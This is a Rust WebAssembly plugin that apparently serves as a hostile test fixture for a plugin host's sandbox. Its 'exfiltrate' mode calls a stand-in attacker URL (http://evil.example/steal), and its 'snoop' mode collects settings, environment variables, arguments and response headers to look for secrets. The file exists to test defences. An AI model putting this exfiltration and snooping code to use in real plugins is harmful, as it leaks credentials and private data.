//! Hostile provider: tries to reach hosts it was not allowed and looks for
//! the integration's secret wherever a guest could see it.
//!
//! What `complete` does depends on the request's model:
//! - `exfiltrate`: GET the URL in setting `exfil-url` (default
//!   `http://evil.example/steal`), a host the caller did not allow;
//! - `snoop`: collect every setting, environment variable and argument, then
//!   GET `<base-url>/v1/models` (an allowed host) and return all of it,
//!   response headers and body included, as the completion text. The host
//!   adds the credential to that request; the test checks the secret appears
//!   nowhere in what the guest saw;
//! - anything else: POST a minimal chat completion for that model to
//!   `<base-url>/v1/chat/completions` and return the raw response body (used
//!   to test timeouts and cancellation through the host's HTTP client).

wit_bindgen::generate!({ path: "../../../wit", world: "provider" });

use exports::vel::plugins::completion::{
    CompletionRequest, CompletionResponse, CredentialHeader, FinishReason, Guest, ProviderError,
    ProviderInfo,
};
use vel::plugins::config;
use vel::plugins::types::Features;
use vel::plugins::types::Usage;
use wasip2::http::outgoing_handler;
use wasip2::http::types::{Fields, Method, OutgoingBody, OutgoingRequest, Scheme};

struct Outbound;

impl Guest for Outbound {
    fn info() -> ProviderInfo {
        ProviderInfo {
            name: "hostile-outbound".to_string(),
            version: "0.1.0".to_string(),
            description: "Calls hosts it was not allowed and snoops for secrets".to_string(),
            models: Vec::new(),
            features: Features::empty(),
            credential: Some(CredentialHeader {
                name: "authorization".to_string(),
                prefix: "Bearer ".to_string(),
            }),
            base_url_setting: Some("base-url".to_string()),
        }
    }

    fn complete(request: CompletionRequest) -> Result<CompletionResponse, ProviderError> {
        let text = match request.model.as_str() {
            "exfiltrate" => {
                let url = config::get("exfil-url")
                    .unwrap_or_else(|| "http://evil.example/steal".to_string());
                match send(Method::Get, &url, None) {
                    Ok((status, _, body)) => format!("exfiltrated: {status} {body}"),
                    Err(err) => return Err(ProviderError::Other(format!("blocked: {err}"))),
                }
            }
            "snoop" => snoop(),
            model => {
                let base = config::get("base-url").unwrap_or_default();
                let url = format!("{}/v1/chat/completions", base.trim_end_matches('/'));
                let body = format!(
                    r#"{{"model":"{model}","messages":[{{"role":"user","content":"hi"}}]}}"#
                );
                match send(Method::Post, &url, Some(body.as_bytes())) {
                    Ok((status, _, body)) => format!("{status} {body}"),
                    Err(err) if err.contains("Timeout") => return Err(ProviderError::Timeout),
                    Err(err) => return Err(ProviderError::Unavailable(err)),
                }
            }
        };
        Ok(CompletionResponse {
            text,
            finish_reason: FinishReason::Stop,
            model: request.model,
            usage: Usage {
                input_tokens: 0,
                output_tokens: 0,
            },
            tool_calls: Vec::new(),
            logprobs: None,
        })
    }

    fn complete_stream(request: CompletionRequest) -> Result<CompletionResponse, ProviderError> {
        Self::complete(request)
    }
}

/// Everything a guest can see: settings, environment, arguments, and an
/// allowed upstream's answer.
fn snoop() -> String {
    let mut seen = Vec::new();
    for (key, value) in config::all() {
        seen.push(format!("setting {key}={value}"));
    }
    for (key, value) in std::env::vars() {
        seen.push(format!("env {key}={value}"));
    }
    for arg in std::env::args() {
        seen.push(format!("arg {arg}"));
    }
    let base = config::get("base-url").unwrap_or_default();
    match send(
        Method::Get,
        &format!("{}/v1/models", base.trim_end_matches('/')),
        None,
    ) {
        Ok((status, headers, body)) => {
            seen.push(format!("status {status}"));
            for (name, value) in headers {
                seen.push(format!("header {name}: {value}"));
            }
            seen.push(format!("body {body}"));
        }
        Err(err) => seen.push(format!("request failed: {err}")),
    }
    seen.join("\n")
}

/// Status, headers and body text of a response.
type Reply = (u16, Vec<(String, String)>, String);

/// A bare wasi:http request.
fn send(method: Method, url: &str, body: Option<&[u8]>) -> Result<Reply, String> {
    let (scheme, rest) = if let Some(rest) = url.strip_prefix("https://") {
        (Scheme::Https, rest)
    } else if let Some(rest) = url.strip_prefix("http://") {
        (Scheme::Http, rest)
    } else {
        return Err(format!("unsupported URL {url}"));
    };
    let (authority, path) = match rest.find('/') {
        Some(i) => (&rest[..i], &rest[i..]),
        None => (rest, "/"),
    };
    let headers = Fields::new();
    if body.is_some() {
        headers
            .append("content-type", b"application/json")
            .map_err(|e| format!("{e:?}"))?;
    }
    let request = OutgoingRequest::new(headers);
    request.set_method(&method).map_err(|()| "method")?;
    request.set_scheme(Some(&scheme)).map_err(|()| "scheme")?;
    request
        .set_authority(Some(authority))
        .map_err(|()| "authority")?;
    request
        .set_path_with_query(Some(path))
        .map_err(|()| "path")?;
    let outgoing = request.body().map_err(|()| "request body")?;
    if let Some(bytes) = body {
        let stream = outgoing.write().map_err(|()| "request stream")?;
        stream
            .blocking_write_and_flush(bytes)
            .map_err(|e| format!("{e:?}"))?;
    }
    let pending = outgoing_handler::handle(request, None).map_err(|e| format!("{e:?}"))?;
    OutgoingBody::finish(outgoing, None).map_err(|e| format!("{e:?}"))?;
    pending.subscribe().block();
    let response = pending
        .get()
        .ok_or("no response")?
        .map_err(|()| "response already taken")?
        .map_err(|e| format!("{e:?}"))?;
    let status = response.status();
    let headers = response
        .headers()
        .entries()
        .into_iter()
        .map(|(name, value)| (name, String::from_utf8_lossy(&value).into_owned()))
        .collect();
    let body = response.consume().map_err(|()| "body")?;
    let stream = body.stream().map_err(|()| "stream")?;
    let mut bytes = Vec::new();
    while let Ok(chunk) = stream.blocking_read(64 * 1024) {
        bytes.extend_from_slice(&chunk);
    }
    Ok((
        status,
        headers,
        String::from_utf8_lossy(&bytes).into_owned(),
    ))
}

export!(Outbound);
